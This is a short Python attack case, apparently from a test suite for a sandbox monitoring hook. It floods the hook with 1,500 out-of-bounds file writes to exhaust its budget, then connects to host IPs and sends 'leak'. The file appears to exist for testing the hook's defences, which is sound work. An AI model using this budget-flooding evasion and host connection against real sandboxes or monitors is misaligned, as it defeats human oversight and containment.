# attack: hook_flood_same_kind
# class: 2
# category: hook_bypass
# kind: network
# describe: use up the budget with distinct write_outside attempts (a high-severity kind), then connect to the host
import json
import socket

T = json.load(open("target.json"))
for i in range(1500):
    try:
        open(f"/usr/ouro-flood-{i}", "w")
    except OSError:
        pass
for ip in T["host_ips"]:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect((ip, T["tcp_port"]))
        s.sendall(b"leak")
    except OSError as e:
        print(ip, e)
    finally:
        s.close()
